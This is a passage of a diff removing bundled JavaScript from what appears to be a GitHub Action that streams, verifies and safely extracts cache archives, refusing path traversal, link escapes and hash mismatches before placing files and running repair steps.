-            throw new Rejected('malformed archive: data after an end block');
-        if (!checksumOk(h))
-            throw new Rejected('malformed archive: header checksum mismatch');
-        const flag = String.fromCharCode(h[156] || 0x30);
-        let size = tar_reader_octal(h, 124, 12, 'size');
-        const pad = (BLOCK - (size % BLOCK)) % BLOCK;
-        if (flag === 'x' || flag === 'g' || flag === 'L' || flag === 'K') {
-            if (size > MAX_META)
-                throw new Rejected('malformed archive: oversized extended header');
-            this.state = { kind: 'meta', left: size, pad, flag, parts: [] };
-            if (size === 0) {
-                this.meta(flag, Buffer.alloc(0));
-                this.state = { kind: 'header' };
-            }
-            return;
-        }
-        // POSIX ustar ("ustar\0") splits long names into prefix/name; GNU ("ustar ") uses that field otherwise.
-        const posix = h.toString('ascii', 257, 262) === 'ustar' && h[262] === 0;
-        const prefix = posix ? cstr(h, 345, 155) : '';
-        let name = this.pax.get('path') ?? this.longName ?? (prefix ? `${prefix}/` : '') + cstr(h, 0, 100);
-        const linkname = this.pax.get('linkpath') ?? this.longLink ?? cstr(h, 157, 100);
-        const paxSize = this.pax.get('size');
-        if (paxSize !== undefined) {
-            if (!/^\d+$/.test(paxSize))
-                throw new Rejected('malformed archive: bad pax size');
-            size = Number(paxSize);
-        }
-        this.pax = new Map();
-        this.longName = this.longLink = undefined;
-        const type = flag === '0' || flag === '7'
-            ? 'file'
-            : flag === '5'
-                ? 'dir'
-                : flag === '2'
-                    ? 'symlink'
-                    : flag === '1'
-                        ? 'hardlink'
-                        : 'other';
-        if (type === 'dir')
-            name = name.replace(/\/+$/, '');
-        const member = {
-            name,
-            type,
-            flag,
-            mode: tar_reader_octal(h, 100, 8, 'mode') & 0o7777,
-            size: type === 'file' ? size : 0,
-            linkname
-        };
-        const sink = this.handlers.member(member);
-        // Only regular files carry a body we read; any other member's declared size is skipped.
-        const bodyPad = (BLOCK - (size % BLOCK)) % BLOCK;
-        if (size === 0) {
-            sink?.end();
-            return;
-        }
-        if (type !== 'file') {
-            this.state = { kind: 'pad', left: size + bodyPad };
-            return;
-        }
-        this.state = { kind: 'body', left: size, pad: bodyPad, sink };
-    }
-    meta(flag, body) {
-        if (flag === 'x')
-            for (const [k, v] of parsePax(body))
-                this.pax.set(k, v);
-        else if (flag === 'L')
-            this.longName = cstr(body, 0, body.length);
-        else if (flag === 'K')
-            this.longLink = cstr(body, 0, body.length);
-        // 'g' (global pax) carries nothing swr uses.
-    }
-}
-
-;// CONCATENATED MODULE: ./src/core/cache-restore/extract.ts
-/**
- * Unpacking one entry's cache archive into a private scratch directory, member by member, under the
- * entry's signed expectations: every name must lie inside the entry's own path (as the cache client
- * archived it, relative to GITHUB_WORKSPACE), nothing is written through a link, nothing but files,
- * directories and in-entry links is created, and counts and sizes are bounded before a byte is
- * read. With a per-file expectation (a file's sha256, a tree's signed index) each file is hashed
- * as it streams out, so a poisoned archive stops at its first wrong member and a good one is proven
- * without being read again.
- */
-
-
-
-
-
-
-
-const LIST = 5;
-/** The process umask (reading it sets it, so it is set straight back); all bits when unknown. */
-function currentUmask() {
-    try {
-        const u = process.umask(0o022);
-        process.umask(u);
-        return u;
-    }
-    catch {
-        return 0o777;
-    }
-}
-/** Escape a name from the archive for a one-line report. */
-function extract_shown(name) {
-    const clipped = name.length > 200 ? `${name.slice(0, 200)}…` : name;
-    const plain = [...clipped].every(c => c >= ' ' && c !== '\x7f' && c !== '"' && c !== '\\' && c !== '%');
-    return plain ? clipped : JSON.stringify(clipped);
-}
-class EntryExtractor {
-    prefix;
-    dest;
-    want;
-    records;
-    ignored;
-    seen = new Set();
-    links = new Set();
-    fileHashes = new Map();
-    dirModes = [];
-    members = 0;
-    openFd;
-    bytes = 0;
-    skippedBytes = 0;
-    files = 0;
-    maxMembers;
-    maxSkipped;
-    /**
-     * `prefix`: the entry's path as the archive names it; `dest`: where the entry's root goes in
-     * scratch (its parent exists; `dest` itself must not).
-     */
-    constructor(prefix, dest, want) {
-        this.prefix = prefix;
-        this.dest = dest;
-        this.want = want;
-        if (want.kind === 'indexed') {
-            this.records = new Map(want.records.map(r => [r.rel, r]));
-            this.ignored = ignoreMatcher(want.ignore);
-            const total = want.records.reduce((n, r) => n + r.size, 0);
-            // Ignored members are skipped unwritten; they may not outgrow the tree itself.
-            this.maxSkipped = Math.max(64 * 1024 * 1024, Math.ceil(total / 10));
-            this.maxMembers =
-                want.records.length + 1 + Math.max(1024, Math.ceil(want.records.length / 10));
-        }
-        else {
-            this.maxSkipped = 0;
-            this.maxMembers = want.kind === 'file' ? 1 : want.maxMembers;
-        }
-    }
-    member(m) {
-        if (++this.members > this.maxMembers)
-            throw new Rejected(`more than ${this.maxMembers} members (the recorded bound)`);
-        const rel = this.relOf(m.name);
-        if (m.type === 'other')
-            throw new Rejected(`${flagName(m.flag)} member: ${extract_shown(m.name)}`);
-        if (m.type === 'hardlink')
-            this.linkTarget(m);
-        if (this.records && this.isIgnored(rel)) {
-            this.skippedBytes += m.size;
-            if (this.skippedBytes > this.maxSkipped)
-                throw new Rejected(`ignored members over ${this.maxSkipped} bytes`);
-            return undefined;
-        }
-        if (this.seen.has(rel))
-            throw new Rejected(`duplicate member: ${extract_shown(m.name)}`);
-        this.throughLink(rel, m.name);
-        this.seen.add(rel);
-        const at = { rel, abs: rel === '' ? this.dest : external_node_path_default().join(this.dest, rel) };
-        this.checkShape(at, m);
-        switch (m.type) {
-            case 'dir':
-                return this.dir(at, m);
-            case 'symlink':
-                return this.symlink(at, m);
-            case 'hardlink':
-                return this.hardlink(at, m);
-            default:
-                return this.file(at, m);
-        }
-    }
-    /** Close a file left open by an archive that stopped mid-member. */
-    abort() {
-        if (this.openFd !== undefined)
-            external_node_fs_default().closeSync(this.openFd);
-        this.openFd = undefined;
-    }
-    /** After the archive ended: everything recorded arrived; directory modes applied last. */
-    finish() {
-        if (this.records) {
-            const missing = [...this.records.keys()].filter(r => !this.seen.has(r));
-            if (missing.length > 0)
-                throw new Rejected(`${missing.length} missing: ${missing.slice(0, LIST).map(extract_shown).join(', ')}${missing.length > LIST ? ', …' : ''}`);
-        }
-        else if (!this.seen.has('')) {
-            throw new Rejected('the archive does not hold the entry');
-        }
-        for (const [abs, mode] of this.dirModes.reverse())
-            external_node_fs_default().chmodSync(abs, mode);
-        return {
-            members: this.members,
-            bytes: this.bytes,
-            proven: this.want.kind !== 'bounded',
-            files: this.files
-        };
-    }
-    relOf(name) {
-        if (name.startsWith('/'))
-            throw new Rejected(`absolute member name: ${extract_shown(name)}`);
-        let rel;
-        if (name === this.prefix || name === `${this.prefix}/`)
-            rel = '';
-        else if (name.startsWith(`${this.prefix}/`))
-            rel = name.slice(this.prefix.length + 1);
-        else if (name.split('/').includes('..') && !this.prefix.split('/').includes('..'))
-            throw new Rejected(`member climbs out with "..": ${extract_shown(name)}`);
-        else
-            throw new Rejected(`member outside the entry's path: ${extract_shown(name)}`);
-        rel = rel.replace(/\/+$/, '');
-        if (rel !== '' && rel.split('/').some(c => c === '' || c === '.' || c === '..'))
-            throw new Rejected(`member name with "", "." or "..": ${extract_shown(name)}`);
-        return rel;
-    }
-    isIgnored(rel) {
-        if (rel === '' || !this.ignored)
-            return false;
-        const parts = rel.split('/');
-        for (let i = 1; i <= parts.length; i++)
-            if (this.ignored(parts.slice(0, i).join('/'), parts[i - 1] ?? ''))
-                return true;
-        return false;
-    }
-    /** A member below a link created from this archive would be written through that link. */
-    throughLink(rel, name) {
-        if (this.links.size === 0)
-            return;
-        let at = rel;
-        for (let cut = at.lastIndexOf('/'); cut > 0; cut = at.lastIndexOf('/')) {
-            at = at.slice(0, cut);
-            if (this.links.has(at))
-                throw new Rejected(`member written through a link: ${extract_shown(name)}`);
-        }
-        if (rel !== '' && this.links.has(''))
-            throw new Rejected(`member written through a link: ${extract_shown(name)}`);
-    }
-    checkShape(at, m) {
-        const w = this.want;
-        if (w.kind === 'file') {
-            if (at.rel !== '' || m.type !== 'file')
-                throw new Rejected(`unexpected ${m.type} member: ${extract_shown(m.name)} (the entry is one file)`);
-            if (m.size !== w.size)
-                throw new Rejected(`size ${m.size}, recorded ${w.size}`);
-            if (m.mode !== w.mode)
-                throw new Rejected(`mode ${octal(m.mode)}, recorded ${octal(w.mode)}`);
-            return;
-        }
-        if (w.kind === 'bounded') {
-            if (w.single && at.rel !== '')
-                throw new Rejected(`unexpected member: ${extract_shown(m.name)} (the entry is not a directory)`);
-            if (this.bytes + m.size > w.maxBytes)
-                throw new Rejected(`over ${w.maxBytes} bytes (the recorded bound)`);
-            return;
-        }
-        if (at.rel === '') {
-            if (m.type !== 'dir')
-                throw new Rejected(`the tree's root is a ${m.type} in the archive`);
-            return;
-        }
-        const r = this.records?.get(at.rel);
-        if (!r)
-            throw new Rejected(`extra ${m.type === 'dir' ? 'directory' : m.type}: ${extract_shown(at.rel)}`);
-        const type = m.type === 'dir' ? 'd' : m.type === 'symlink' ? 'l' : 'f';
-        if (type !== r.type)
-            throw new Rejected(`${extract_shown(at.rel)}: ${m.type} in the archive, recorded as type ${r.type}`);
-        if (type === 'f' && m.type === 'file' && m.size !== r.size)
-            throw new Rejected(`${extract_shown(at.rel)}: size ${m.size}, recorded ${r.size}`);
-        if (type !== 'l' && m.mode !== r.mode)
-            throw new Rejected(`${extract_shown(at.rel)}: mode ${octal(m.mode)}, recorded ${octal(r.mode)}`);
-        if (type === 'l' && m.linkname !== r.extra)
-            throw new Rejected(`${extract_shown(at.rel)}: link target differs from the recorded one`);
-    }
-    /** Directories known to exist in scratch: one mkdir per directory, not one per member. */
-    made = new Set();
-    umask = currentUmask();
-    ensureParent(abs) {
-        const parent = external_node_path_default().dirname(abs);
-        if (this.made.has(parent))
-            return;
-        // Parents are created here, inside the private scratch directory, never followed links.
-        external_node_fs_default().mkdirSync(parent, { recursive: true, mode: 0o700 });
-        this.made.add(parent);
-    }
-    dir(at, m) {
-        this.ensureParent(at.abs);
-        external_node_fs_default().mkdirSync(at.abs, { mode: 0o700 });
-        this.made.add(at.abs);
-        this.dirModes.push([
-            at.abs,
-            at.rel === '' || !this.records ? m.mode : (this.records.get(at.rel)?.mode ?? m.mode)
-        ]);
-        return undefined;
-    }
-    symlink(at, m) {
-        if (this.want.kind === 'bounded' || this.want.kind === 'file') {
-            // Unindexed: a link may only point inside the entry (a link entry's own target is checked
-            // by the verifier on the scratch copy).
-            const isRoot = at.rel === '';
-            const resolved = external_node_path_default().posix.normalize(external_node_path_default().posix.join(external_node_path_default().posix.dirname(at.rel), m.linkname));
-            if (!isRoot &&
-                (m.linkname.startsWith('/') || resolved === '..' || resolved.startsWith('../')))
-                throw new Rejected(`link escapes the entry: ${extract_shown(m.name)} -> ${extract_shown(m.linkname)}`);
-        }
-        this.ensureParent(at.abs);
-        external_node_fs_default().symlinkSync(m.linkname, at.abs);
-        this.links.add(at.rel);
-        this.files++;
-        return undefined;
-    }
-    /** A hard link's target as a path inside the entry; one that leaves it is refused. */
-    linkTarget(m) {
-        try {
-            return this.relOf(m.linkname);
-        }
-        catch {
-            throw new Rejected(`hard link out of the entry: ${extract_shown(m.name)} -> ${extract_shown(m.linkname)}`);
-        }
-    }
-    hardlink(at, m) {
-        const target = this.linkTarget(m);
-        const sum = this.fileHashes.get(target);
-        if (sum === undefined)
-            throw new Rejected(`hard link to no extracted file: ${extract_shown(m.name)} -> ${extract_shown(m.linkname)}`);
-        const r = this.records?.get(at.rel);
-        if (this.records && r?.extra !== sum)
-            throw new Rejected(`${extract_shown(at.rel)}: content differs from the recorded sha256`);
-        if (this.want.kind === 'file')
-            throw new Rejected('a hard link where one file is recorded');
-        this.ensureParent(at.abs);
-        // A copy, not a link: the placed tree shares no inode with anything.
-        external_node_fs_default().copyFileSync(external_node_path_default().join(this.dest, target), at.abs, (external_node_fs_default()).constants.COPYFILE_EXCL);
-        this.fileHashes.set(at.rel, sum);
-        this.files++;
-        return undefined;
-    }
-    file(at, m) {
-        this.ensureParent(at.abs);
-        const fd = external_node_fs_default().openSync(at.abs, (external_node_fs_default()).constants.O_WRONLY | (external_node_fs_default()).constants.O_CREAT | (external_node_fs_default()).constants.O_EXCL | (external_node_fs_default()).constants.O_NOFOLLOW, m.mode & 0o777);
-        this.openFd = fd;
-        // open() applies the umask: fix the mode only when it took something away (rarely).
-        const fixMode = (m.mode & ~this.umask & 0o777) !== m.mode;
-        const want = this.want.kind === 'file' ? this.want.sha256 : this.records?.get(at.rel)?.extra;
-        const hash = (0,external_node_crypto_.createHash)('sha256');
-        this.files++;
-        return {
-            write: chunk => {
-                this.bytes += chunk.length;
-                hash.update(chunk);
-                let off = 0;
-                while (off < chunk.length)
-                    off += external_node_fs_default().writeSync(fd, chunk, off, chunk.length - off);
-            },
-            end: () => {
-                const sum = hash.digest('hex');
-                this.openFd = undefined;
-                try {
-                    if (fixMode)
-                        external_node_fs_default().fchmodSync(fd, m.mode);
-                }
-                finally {
-                    external_node_fs_default().closeSync(fd);
-                }
-                if (this.want.kind !== 'bounded' && sum !== want)
-                    throw new Rejected(`${at.rel === '' ? 'the file' : extract_shown(at.rel)}: content differs from the recorded sha256`);
-                this.fileHashes.set(at.rel, sum);
-            }
-        };
-    }
-}
-
-;// CONCATENATED MODULE: ./src/core/cache-restore/place.ts
-/**
- * Moving a proven entry from scratch into the workspace: every parent between the workspace and
- * the target must be a real directory (a link planted in the workspace is refused, not followed),
- * missing parents are created one by one, and the old target is renamed aside before the new one
- * is renamed in, so a failure puts the old one back and a success removes it.
- */
-
-
-
-
-
-/** Create or check each parent of `target` below `workspace`; none may be a link. */
-function safeParents(workspace, target) {
-    const rel = external_node_path_default().relative(workspace, external_node_path_default().dirname(target));
-    if (rel.startsWith('..') || external_node_path_default().isAbsolute(rel))
-        throw new Rejected(`the target is outside the workspace: ${extract_shown(target)}`);
-    let at = workspace;
-    for (const part of rel === '' ? [] : rel.split((external_node_path_default()).sep)) {
-        at = external_node_path_default().join(at, part);
-        let st;
-        try {
-            st = external_node_fs_default().lstatSync(at);
-        }
-        catch (err) {
-            if (err.code !== 'ENOENT')
-                throw err;
-        }
-        if (!st)
-            external_node_fs_default().mkdirSync(at, { mode: 0o755 });
-        else if (st.isSymbolicLink())
-            throw new Rejected(`not placed: ${extract_shown(external_node_path_default().relative(workspace, at))} is a symbolic link`);
-        else if (!st.isDirectory())
-            throw new Rejected(`not placed: ${extract_shown(external_node_path_default().relative(workspace, at))} is not a directory`);
-    }
-}
-/** Same filesystem: rename. Else copy beside the target first (links kept as links), then rename. */
-function stageBeside(from, target) {
-    const staged = external_node_path_default().join(external_node_path_default().dirname(target), `.swr-new-${(0,external_node_crypto_.randomBytes)(6).toString('hex')}`);
-    try {
-        external_node_fs_default().renameSync(from, staged);
-    }
-    catch (err) {
-        if (err.code !== 'EXDEV')
-            throw err;
-        external_node_fs_default().cpSync(from, staged, { recursive: true, verbatimSymlinks: true, preserveTimestamps: true });
-    }
-    return staged;
-}
-/** Put `from` (in scratch) at `target` (in the workspace). */
-function place(workspace, from, target) {
-    safeParents(workspace, target);
-    const staged = stageBeside(from, target);
-    let aside;
-    try {
-        if (external_node_fs_default().existsSync(target) || isLink(target)) {
-            aside = external_node_path_default().join(external_node_path_default().dirname(target), `.swr-old-${(0,external_node_crypto_.randomBytes)(6).toString('hex')}`);
-            external_node_fs_default().renameSync(target, aside);
-        }
-        external_node_fs_default().renameSync(staged, target);
-    }
-    catch (err) {
-        if (aside && !external_node_fs_default().existsSync(target))
-            external_node_fs_default().renameSync(aside, target);
-        external_node_fs_default().rmSync(staged, { recursive: true, force: true });
-        throw err;
-    }
-    if (aside)
-        external_node_fs_default().rmSync(aside, { recursive: true, force: true });
-}
-function isLink(p) {
-    try {
-        return external_node_fs_default().lstatSync(p).isSymbolicLink();
-    }
-    catch {
-        return false;
-    }
-}
-
-// EXTERNAL MODULE: external "node:stream"
-var external_node_stream_ = __nccwpck_require__(7075);
-;// CONCATENATED MODULE: ./src/core/cache-restore/unpack.ts
-/**
- * Streaming one compressed cache archive through decompression into the tar reader, stopping the
- * download as soon as the reader refuses a member or has read the end of the archive. zstd is
- * decoded by Node's zlib where it has it (Node 22.15+/24, the Action's runtime), else by a `zstd`
- * binary at a fixed system path (never one found through PATH, which a workspace can prepend to).
- */
-
-
-
-
-
-
-const ZSTD_PATHS = ['/usr/bin/zstd', '/bin/zstd', '/usr/local/bin/zstd', '/opt/homebrew/bin/zstd'];
-function zstdBinary() {
-    return ZSTD_PATHS.find(p => {
-        try {
-            external_node_fs_default().accessSync(p, (external_node_fs_default()).constants.X_OK);
-            return true;
-        }
-        catch {
-            return false;
-        }
-    });
-}
-function decompressor(compression) {
-    if (compression === 'gzip')
-        return external_node_zlib_default().createGunzip();
-    const native = (external_node_zlib_default()).createZstdDecompress;
-    if (native)
-        return native();
-    const bin = zstdBinary();
-    if (!bin)
-        throw new Rejected('a zstd archive, and neither Node nor the system has zstd');
-    const child = (0,external_node_child_process_.spawn)(bin, ['-d', '-c', '-q'], { stdio: ['pipe', 'pipe', 'pipe'] });
-    let err = '';
-    child.stderr.on('data', (c) => (err = (err + c.toString('utf8')).slice(-400)));
-    const duplex = external_node_stream_.Duplex.from({ writable: child.stdin, readable: child.stdout });
-    child.on('close', code => {
-        if (code !== 0 && code !== null)
-            duplex.destroy(new Error(err.trim().split('\n').pop() || `zstd exited ${code}`));
-    });
-    child.stdin.on('error', () => undefined);
-    duplex.on('close', () => child.kill());
-    return duplex;
-}
-/**
- * Feed `source` (compressed) to a tar reader driving `handlers`. Resolves when the archive ended
- * cleanly; rejects with a Rejected naming why not. The source is destroyed either way.
- */
-async function unpack(source, compression, handlers) {
-    const reader = new TarReader(handlers);
-    let dec;
-    let sourceError;
-    source.on('error', e => (sourceError = e));
-    try {
-        dec = decompressor(compression);
-        source.pipe(dec);
-        for await (const chunk of dec) {
-            reader.write(chunk);
-            if (reader.done)
-                break;
-        }
-        if (!reader.done) {
-            if (sourceError)
-                throw new Rejected(`download failed: ${sourceError.message}`);
-            reader.finish();
-        }
-    }
-    catch (err) {
-        if (err instanceof Rejected)
-            throw err;
-        if (sourceError)
-            throw new Rejected(`download failed: ${oneLine(sourceError)}`);
-        throw new Rejected(`truncated or corrupt archive (${oneLine(err)})`);
-    }
-    finally {
-        source.unpipe();
-        source.destroy();
-        dec?.destroy();
-    }
-}
-function oneLine(err) {
-    const text = err instanceof Error ? err.message : String(err);
-    return text.split('\n')[0]?.slice(0, 200) ?? '';
-}
-
-;// CONCATENATED MODULE: ./src/core/cache-restore/restore.ts
-/**
- * One cache restore of one entry, end to end: a fresh private scratch directory, the archive
- * streamed into it under the entry's signed expectations (extract.ts), the scratch copy proven
- * (while extracting, or by the verifier when nothing per-file is recorded), and only then placed
- * (place.ts). A refused archive leaves the workspace as it was and says why in one line.
- */
-
-
-
-
-
-
-
-
-/** Trees recorded without an index (imported from format 2) have no byte count: this bounds them. */
-const LOOSE_TREE_MAX_BYTES = 16 * 1024 * 1024 * 1024;
-const LOOSE_TREE_MAX_MEMBERS = 2_000_000;
-function expectationOf(e, ctx) {
-    switch (e.kind) {
-        case 'file':
-            return {
-                kind: 'file',
-                size: e.expect.size,
-                sha256: e.expect.sha256,
-                mode: parseMode(e.expect.mode)
-            };
-        case 'blob':
-            return { kind: 'bounded', maxMembers: 1, maxBytes: e.expect.size, single: true };
-        case 'link':
-            return { kind: 'bounded', maxMembers: 1, maxBytes: 0, single: true };
-        case 'tree': {
-            const records = e.expect.index ? ctx.readIndex(e.id, e.expect.index) : undefined;
-            if (records)
-                return { kind: 'indexed', records, ignore: e.ignore };
-            const files = e.expect.max_files ?? e.expect.files;
-            return {
-                kind: 'bounded',
-                // Directories are members too: allow as many again, plus a margin.
-                maxMembers: files !== undefined ? files * 2 + 64 : LOOSE_TREE_MAX_MEMBERS,
-                maxBytes: LOOSE_TREE_MAX_BYTES,
-                single: false
-            };
-        }
-    }
-}
-const PROVEN = 'restored from the cache, every byte verified while extracting';
-/** A finding made by a verifying extraction (not by reading the placed entry again). */
-function isProven(f) {
-    return f?.status === 'OK' && f.detail.startsWith(PROVEN);
-}
-function provenFinding(e, files, bytes) {
-    return {
-        id: e.id,
-        kind: e.kind,
-        path: e.path,
-        tier: e.tier,
-        status: 'OK',
-        reason: 'ok',
-        detail: `${PROVEN} (${files} files, ${bytes} bytes)`,
-        recorded: {},
-        found: { files, bytes },
-        cached: false
-    };
-}
-/** Make a fresh 0700 scratch directory below `base`. */
-function makeScratch(base, name) {
-    external_node_fs_default().mkdirSync(base, { recursive: true });
-    const dir = external_node_fs_default().mkdtempSync(external_node_path_default().join(base, `${name}-`));
-    external_node_fs_default().chmodSync(dir, 0o700);
-    return dir;
-}
-function reasonOf(err) {
-    if (err instanceof Rejected)
-        return err.message;
-    const e = err;
-    return `${e.code ?? 'error'}: ${(e.message ?? String(err)).split('\n')[0]}`;
-}
-async function restoreEntry(e, archive, ctx) {
-    const scratch = makeScratch(ctx.scratchBase, 'swr-restore');
-    try {
-        const root = external_node_path_default().join(scratch, 'w');
-        const dest = resolveEntryPath(root, e.path);
-        external_node_fs_default().mkdirSync(external_node_path_default().dirname(dest), { recursive: true, mode: 0o700 });
-        const extractor = new EntryExtractor(archive.prefix, dest, expectationOf(e, ctx));
-        try {
-            await unpack(await archive.open(), archive.compression, extractor);
-        }
-        finally {
-            extractor.abort();
-        }
-        const summary = extractor.finish();
-        let finding;
-        if (summary.proven)
-            finding = provenFinding(e, summary.files, summary.bytes);
-        else {
-            const f = await ctx.verifyAt(root, e);
-            if (f.status !== 'OK')
-                throw new Rejected(`${f.status}: ${f.detail}`);
-        }
-        place(ctx.workspace, dest, resolveEntryPath(ctx.workspace, e.path));
-        return { placed: true, finding, members: summary.members, bytes: summary.bytes };
-    }
-    catch (err) {
-        return { placed: false, reason: reasonOf(err) };
-    }
-    finally {
-        removeScratch(scratch);
-    }
-}
-/** Remove a scratch directory, even one holding directories restored without write permission. */
-function removeScratch(dir) {
-    try {
-        external_node_fs_default().rmSync(dir, { recursive: true, force: true });
-    }
-    catch {
-        const open = (d) => {
-            external_node_fs_default().chmodSync(d, 0o700);
-            for (const ent of external_node_fs_default().readdirSync(d, { withFileTypes: true }))
-                if (ent.isDirectory())
-                    open(external_node_path_default().join(d, ent.name));
-        };
-        open(dir);
-        external_node_fs_default().rmSync(dir, { recursive: true, force: true });
-    }
-}
-
-;// CONCATENATED MODULE: ./src/core/repair.ts
-/**
- * Carrying out a repair plan: wave by wave (steps of a wave in parallel up to `jobs`), each step
- * from its source (escrow, then recipe), each restored entry re-verified at once without the
- * cache. A step whose dependency did not heal is SKIPPED, never attempted. The caller must have
- * asked the gate first; this module refuses to run without an allowed decision.
- */
-
-
-
-
-
-
-
-
-
-
-
-
-
-const DEFAULT_TIMEOUT_S = 1800;
-const DEFAULT_SHELL = ['bash', '-c'];
-async function runRepair(opts) {
-    if (!opts.gate.allowed)
-        throw new InternalError('runRepair called without an allowed gate decision');
-    const entries = new Map(opts.manifest.body.entries.map(e => [e.id, e]));
-    const results = new Map();
-    const limit = pLimit(Math.max(1, opts.jobs ?? 1));
-    for (const wave of opts.plan.waves) {
-        await Promise.all(wave.map(step => limit(async () => {
-            const entry = entries.get(step.id);
-            if (!entry)
-                throw new InternalError(`plan names unknown entry ${step.id}`);
-            const r = await runStep(step, entry, results, opts);
-            results.set(step.id, r);
-            opts.journal?.append({
-                id: r.id,
-                outcome: r.outcome,
-                at: (opts.now?.() ?? new Date()).toISOString()
-            });
-            opts.onStep?.(r);
-        })));
-    }
-    return planSteps(opts.plan).map(s => results.get(s.id));
-}
-/** Quarantine is evidence-keeping: failing to copy must not stop the repair, only be reported. */
-function safeQuarantine(entry, opts) {
-    if (!opts.quarantine)
-        return undefined;
-    try {
-        return quarantine(opts.manifest.workspace, opts.quarantine.stateDir, entry, opts.now?.() ?? new Date(), opts.quarantine);
-    }
-    catch (err) {
-        return {
-            skipped: `copy failed: ${err instanceof Error ? (err.code ?? err.message) : String(err)}`
-        };
-    }
-}
-/** Escrow first (local, no code), then the state saved for exactly these expectations, then the declared sources. */
-function sourcesFor(entry, cache) {
-    const out = entry.kind === 'file' && entry.escrow ? [{ kind: 'escrow' }] : [];
-    if (cache)
-        out.push({ kind: 'cache', key: stateKey(entry), restoreKeys: [], auto: true });
-    for (const src of restoreSources(entry)) {
-        out.push(typeof src === 'string'
-            ? { kind: 'recipe', command: src }
-            : {
-                kind: 'cache',
-                key: src.cache.key,
-                restoreKeys: src.cache['restore-keys'] ?? [],
-                auto: false
-            });
-    }
-    return out;
-}
-async function runStep(step, entry, done, opts) {
-    const base = { id: step.id, source: step.source };
-    if (opts.abort?.aborted)
-        return { ...base, outcome: 'interrupted', detail: 'not started: interrupted', attempts: [] };
-    const failedDep = step.after.find(d => {
-        const o = done.get(d)?.outcome;
-        return o !== 'repaired' && o !== 'already-repaired';
-    });
-    if (failedDep)
-        return { ...base, outcome: 'skipped', detail: `dependency failed: ${failedDep}`, attempts: [] };
-    if (opts.alreadyRepaired?.has(step.id)) {
-        const [after] = await opts.reverify([entry]);
-        if (after?.status === 'OK')
-            return {
-                ...base,
-                outcome: 'already-repaired',
-                detail: 'repaired by the interrupted run',
-                after,
-                attempts: []
-            };
-    }
-    const sources = sourcesFor(entry, opts.cache);
-    if (sources.length === 0)
-        return {
-            ...base,
-            outcome: 'unrepairable',
-            detail: 'no restore source (recipe, cache or escrow)',
-            attempts: []
-        };
-    const q = opts.quarantine ? safeQuarantine(entry, opts) : undefined;
-    const attempts = [];
-    let recipe;
-    let after;
-    let ranCleanly = false;
-    for (const src of sources) {
-        const tried = await trySource(src, entry, opts);
-        if (tried.recipe)
-            recipe = tried.recipe;
-        if (tried.attempt.outcome === 'interrupted') {
-            attempts.push(tried.attempt);
-            return {
-                ...base,
-                outcome: 'interrupted',
-                detail: tried.attempt.detail,
-                attempts,
-                ...(recipe ? { recipe } : {}),
-                ...(q ? { quarantine: q } : {})
-            };
-        }
-        if (tried.attempt.outcome === 'miss' ||
-            tried.attempt.outcome === 'failed' ||
-            tried.attempt.outcome === 'skipped' ||
-            tried.attempt.outcome === 'not-healed') {
-            // A refused cache archive never reached the workspace: nothing to re-verify.
-            attempts.push(tried.attempt);
-            continue;
-        }
-        // An archive proven byte by byte while it was extracted needs no second read.
-        ;
-        [after] = tried.proven ? [tried.proven] : await opts.reverify([entry]);
-        const healed = after?.status === 'OK';
-        ranCleanly ||= src.kind === 'recipe';
-        attempts.push({
-            ...tried.attempt,
-            outcome: healed ? 'healed' : 'not-healed',
-            ...(healed
-                ? {}
-                : {
-                    detail: `${tried.attempt.detail}, but still ${after?.status ?? 'damaged'}: ${after?.detail ?? ''}`
-                })
-        });
-        if (healed) {
-            return {
-                id: step.id,
-                source: src.kind,
-                outcome: 'repaired',
-                detail: tried.attempt.detail,
-                attempts,
-                ...(after ? { after } : {}),
-                ...(recipe ? { recipe } : {}),
-                ...(q ? { quarantine: q } : {})
-            };
-        }
-    }
-    const last = attempts[attempts.length - 1];
-    return {
-        ...base,
-        outcome: ranCleanly ? 'still-damaged' : 'failed',
-        detail: attempts.length > 1
-            ? attempts.map(a => `${a.source}: ${a.detail}`).join('; ')
-            : (last?.detail ?? ''),
-        attempts,
-        ...(after ? { after } : {}),
-        ...(recipe ? { recipe } : {}),
-        ...(q ? { quarantine: q } : {})
-    };
-}
-/** Scratch below RUNNER_TEMP (private to the job), else the system temp directory. */
-function defaultRestore(opts) {
-    return {
-        scratchBase: opts.callerEnv.RUNNER_TEMP || external_node_os_default().tmpdir(),
-        readIndex: (id, ref) => readIndex(indexPath(opts.manifest.file, id), ref),
-        verifyAt: async (root, e) => {
-            const [f] = await opts.reverifyAt(root, [e]);
-            if (!f)
-                throw new InternalError(`no finding for ${e.id}`);
-            return f;
-        }
-    };
-}
-async function trySource(src, entry, opts) {
-    const abs = resolveEntryPath(opts.manifest.workspace, entry.path);
-    switch (src.kind) {
-        case 'escrow':
-            if (entry.kind !== 'file')
-                return {
-                    attempt: { source: 'escrow', outcome: 'failed', detail: 'escrow on a non-file entry' }
-                };
-            try {
-                restoreFromEscrow(opts.manifest.workspace, entry);
-                return { attempt: { source: 'escrow', outcome: 'healed', detail: 'restored from escrow' } };
-            }
-            catch (err) {
-                if (!(err instanceof SwrError) && !(err instanceof Error && 'code' in err))
-                    throw err;
-                return {
-                    attempt: {
-                        source: 'escrow',
-                        outcome: 'failed',
-                        detail: err instanceof Error ? err.message : String(err)
-                    }
-                };
-            }
-        case 'cache': {
-            if (!opts.cache)
-                return {
-                    attempt: {
-                        source: 'cache',
-                        outcome: 'skipped',
-                        key: src.key,
-                        detail: `cache ${src.key} skipped: no Actions cache service here`
-                    }
-                };
-            const hit = await opts.cache.find(abs, src.key, src.restoreKeys);
-            if (!hit)
-                return {
-                    attempt: {
-                        source: 'cache',
-                        outcome: 'miss',
-                        key: src.key,
-                        detail: `cache miss for ${src.key}${src.auto ? ' (saved state)' : ''}`
-                    }
-                };
-            const how = `cache ${hit.exact ? 'exact hit' : `restore-keys prefix hit ${hit.matchedKey}`}${src.auto ? ' (saved state)' : ''}`;
-            const r = await restoreEntry(entry, hit, {
-                workspace: opts.manifest.workspace,
-                ...(opts.cacheRestore ?? defaultRestore(opts))
-            });
-            const base = {
-                source: 'cache',
-                key: src.key,
-                matchedKey: hit.matchedKey,
-                exact: hit.exact
-            };
-            if (!r.placed)
-                return {
-                    attempt: { ...base, outcome: 'not-healed', detail: `${how} rejected: ${r.reason}` }
-                };
-            return {
-                attempt: { ...base, outcome: 'healed', detail: how },
-                ...(r.finding ? { proven: r.finding } : {})
-            };
-        }
-        case 'recipe': {
-            const timeoutS = opts.timeoutS ?? entry.timeout_s ?? DEFAULT_TIMEOUT_S;
